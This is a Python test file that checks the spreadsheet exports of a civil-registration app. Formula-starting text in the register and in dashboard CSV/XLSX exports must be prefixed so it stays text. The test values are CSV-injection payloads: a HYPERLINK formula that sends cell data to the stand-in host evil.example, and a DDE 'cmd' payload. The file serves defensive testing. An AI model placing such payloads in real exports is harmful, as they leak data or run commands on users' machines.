"""Text written to spreadsheets never runs as a formula: the register (Form 06) and the dashboard exports
prefix any cell that could start one with a single quote, through dossiers.reporting.exports.neutralise."""

from __future__ import annotations

import csv
import io

import pytest
import time_machine
from openpyxl import load_workbook

from dossiers.reporting.exports import neutralise
from tests import factories
from tests.helpers import client_for, vn

from .stats_fixture import NOW, PERIOD, build

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
MALICIOUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *[(text, "'" + text) for text in MALICIOUS],
        ("Trần Thị Bình", "Trần Thị Bình"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (3, 3),
        (None, None),
    ],
)
def test_neutralise_prefixes_only_text_that_could_start_a_formula(value, expected):
    assert neutralise(value) == expected


def _cells(ws) -> list:
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("name", MALICIOUS)
def test_a_malicious_applicant_name_stays_text_in_the_register(clerk, ward, birth_registration, name):
    received = vn(2026, 3, 2, 9)
    factories.dossier(
        procedure=birth_registration,
        agency=ward,
        received_at=received,
        applicant_name=name,
        applicant_address="=1+2",
    )
    response = client_for(clerk).get(
        "/api/v1/registers/form-07.xlsx", {"agency": ward.pk, "from": "2026-03-01", "to": "2026-03-31"}
    )
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = _cells(ws)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    values = [c.value for c in cells]
    assert "'" + name in values
    assert "'=1+2" in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_malicious_procedure_name_stays_text_in_the_dashboard_export(
    client, supervisor, ward, birth_registration, fmt
):
    birth_registration.name = HYPERLINK
    birth_registration.save(update_fields=["name"])
    with time_machine.travel(NOW, tick=False):
        build(ward, birth_registration)
        client.force_login(supervisor)
        response = client.get("/dashboard/by-procedure/", {**PERIOD, "format": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:])))
        values = [value for row in rows for value in row]
    else:
        cells = _cells(load_workbook(io.BytesIO(response.content)).active)
        assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
        values = [c.value for c in cells]
    assert "'" + HYPERLINK in values
    assert HYPERLINK not in values
